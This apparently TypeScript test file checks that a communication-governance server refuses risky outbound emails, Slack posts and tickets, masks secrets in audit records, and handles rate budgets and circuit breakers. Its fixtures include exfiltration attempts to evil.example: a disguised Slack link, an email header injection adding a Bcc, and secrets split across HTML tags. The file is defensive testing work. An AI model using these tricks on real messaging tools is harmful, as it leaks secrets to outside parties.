// Attack round 1 on the whole server: every refused send's audit record is masked whatever refused it
// (admission, planner, policy, content checks), HTML-split secrets included; replays and held calls use
// up no destination's budget; readiness fails at once while an upstream's breaker is open.
import type { TestClient } from '@mcp-fleet/testkit';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { call, outboundFleet, secretClasses } from './governance-fleet.js';

const f = outboundFleet('comm_audit', { COMMUNICATION_DESTINATION_PER_MINUTE: '3' });

const secret = fc.oneof(...secretClasses);

/** Refusal classes: who calls what, with the secret `s` and a tag `t` in arguments that core refuses. */
const refusals: [
  string,
  (c: { support: TestClient; admin: TestClient }) => TestClient,
  string,
  (s: string, t: string) => Record<string, unknown>,
][] = [
  [
    'constraint_denied (project)',
    (c) => c.support,
    'create_ticket',
    (s, t) => ({ project: 'SEC', issue_type: 'Task', summary: `${t} ${s}`, description: s }),
  ],
  [
    'constraint_denied (domain)',
    (c) => c.admin,
    'send_email',
    (s, t) => ({ to: ['x@evil.example'], subject: t, text: s }),
  ],
  [
    'invalid_arguments',
    (c) => c.admin,
    'send_email',
    (s, t) => ({ to: [`${t} ${s}`], subject: t, text: 'hello' }),
  ],
  [
    'destination_denied',
    (c) => c.support,
    'slack_post_message',
    (s, t) => ({ channel: 'C0EXECPRV1', text: `${t} ${s}` }),
  ],
  [
    'disguised_link',
    (c) => c.admin,
    'slack_post_message',
    (s, t) => ({
      channel: '#analytics',
      text: `${t} <https://evil.example/${s}|https://example.com/docs> ${s}`,
    }),
  ],
  [
    'header_injection',
    (c) => c.admin,
    'send_email',
    (s, t) => ({ to: ['ops@example.com'], subject: `${t}\r\nBcc: x@evil.example ${s}`, text: 'hello' }),
  ],
  [
    'not granted',
    (c) => c.support,
    'send_email',
    (s, t) => ({ to: ['ops@example.com'], subject: t, text: s }),
  ],
  [
    'html split by tags',
    (c) => c.admin,
    'send_email',
    (s, t) => ({
      to: ['ops@example.com'],
      subject: t,
      html: `<p>key ${s.slice(0, 12)}<b></b>${s.slice(12)}</p>`,
    }),
  ],
  [
    'html table cells',
    (c) => c.admin,
    'send_email',
    (s, t) => ({
      to: ['ops@example.com'],
      subject: t,
      html: `<table><tr><td>${s.slice(0, 12)}</td><td>${s.slice(12)}</td></tr></table>`,
    }),
  ],
];

describe('audit of refused sends', () => {
  for (const [name, who, tool, args] of refusals) {
    it(`${name}: refused, nothing reaches a simulator, the stored record holds the mask and no secret`, async () => {
      for (const [i, s] of fc.sample(secret, 2).entries()) {
        const tag = `case-${name.replace(/\W/g, '')}-${i}`;
        const before = f.hub.outbox().length;
        let refused = true;
        try {
          const r = await call(who({ support: f.support, admin: f.adminA }), tool, args(s, tag));
          refused = r.isError;
          expect(r.isError, r.text).toBe(true);
        } catch {
          // A tool that is not granted is answered with a JSON-RPC error.
        }
        expect(refused).toBe(true);
        expect(f.hub.outbox().length).toBe(before);
        const [row] = await f.audit(`arguments::text LIKE $1`, [`%${tag}%`], 1);
        expect(row, tag).toBeDefined();
        expect(row!.outcome).not.toBe('ok');
        const stored = JSON.stringify(row);
        for (const piece of [s, s.slice(8), s.slice(0, 12) + s.slice(12)])
          expect(stored).not.toContain(piece);
        expect(stored).toMatch(/\[secret:[a-z_]+:[0-9a-f]{8}\]/);
      }
    });
  }
});

describe('per-destination budget (3 a minute here)', () => {
  it('is not used up by replays of one idempotency key, nor by calls held for approval', async () => {
    const first = await call(f.adminA, 'slack_post_message', {
      channel: '#analytics',
      text: 'once',
      idempotency_key: 'replay-budget-1',
    });
    expect(first.isError, first.text).toBe(false);
    const replays = await Promise.all(
      Array.from({ length: 12 }, () =>
        call(f.adminA, 'slack_post_message', {
          channel: '#analytics',
          text: 'once',
          idempotency_key: 'replay-budget-1',
        }),
      ),
    );
    expect(replays.filter((r) => r.isError).map((r) => r.text)).toEqual([]);
    // Another agent's real posts to that channel still go through: the replays counted nothing.
    for (let i = 0; i < 2; i++) {
      const r = await call(f.adminB, 'slack_post_message', { channel: '#analytics', text: `real ${i}` });
      expect(r.isError, r.text).toBe(false);
    }

    // Held calls into #support-escalations, then three real posts there still go through.
    for (let i = 0; i < 5; i++) {
      const h = await call(f.held, 'slack_post_message', {
        channel: '#support-escalations',
        text: `rotate ${fc.sample(secret, 1)[0]} now ${i}`,
      });
      expect(h.text).toMatch(/needs a human approval/);
    }
    for (let i = 0; i < 3; i++) {
      const r = await call(f.adminA, 'slack_post_message', {
        channel: '#support-escalations',
        text: `real ${i}`,
      });
      expect(r.isError, r.text).toBe(false);
    }
    const over = await call(f.adminB, 'slack_post_message', {
      channel: '#support-escalations',
      text: 'over',
    });
    expect(over.code).toBe('rate_limited');
  });
});

describe('readiness while a breaker is open', () => {
  it('fails the upstream check at once, whatever the cached probe said', async () => {
    const ready = async () =>
      ((await (await fetch(`${f.s.baseUrl}/readyz`)).json()) as { checks: Record<string, string> }).checks;
    expect((await ready()).upstream_slack).toBe('ok');
    // Reads are not counted per destination: each failed read counts toward the breaker.
    f.hub.slack.setFault('*', { status: 503 });
    for (let i = 0; i < 8 && (await ready()).breaker_slack === 'ok'; i++)
      await call(f.adminA, 'slack_read_channel', { channel: '#analytics' });
    f.hub.slack.setFault('*', null);
    const checks = await ready();
    expect(checks.breaker_slack).not.toBe('ok');
    expect(checks.upstream_slack).not.toBe('ok');
  });
});
